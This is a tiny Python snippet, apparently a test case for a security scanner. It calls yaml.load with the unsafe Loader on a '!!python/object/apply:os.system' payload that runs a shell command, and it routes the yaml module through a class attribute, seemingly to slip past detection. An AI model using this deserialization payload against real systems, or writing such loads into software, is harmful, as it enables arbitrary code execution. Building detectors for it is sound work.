import yaml
class H:
    y = yaml
H.y.load("!!python/object/apply:os.system [id>pf]", Loader=H.y.Loader)
